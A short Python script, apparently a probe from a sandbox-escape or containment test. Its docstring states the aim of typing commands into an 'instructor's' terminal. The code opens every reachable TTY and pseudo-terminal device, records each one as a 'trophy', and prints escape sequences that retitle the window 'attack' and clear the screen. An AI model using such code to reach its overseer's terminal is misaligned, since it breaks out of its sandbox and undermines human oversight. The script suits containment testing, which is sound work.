"""Type commands into the instructor's terminal, and write escape sequences to it."""
import fcntl, glob, os

for path in ["/dev/tty", "/dev/console", "/dev/stdin", *glob.glob("/dev/pts/*")]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        if os.isatty(fd):
            trophy(path)
        os.close(fd)
    except OSError:
        pass
print("\x1b]0;attack\x07\x1b[2J")
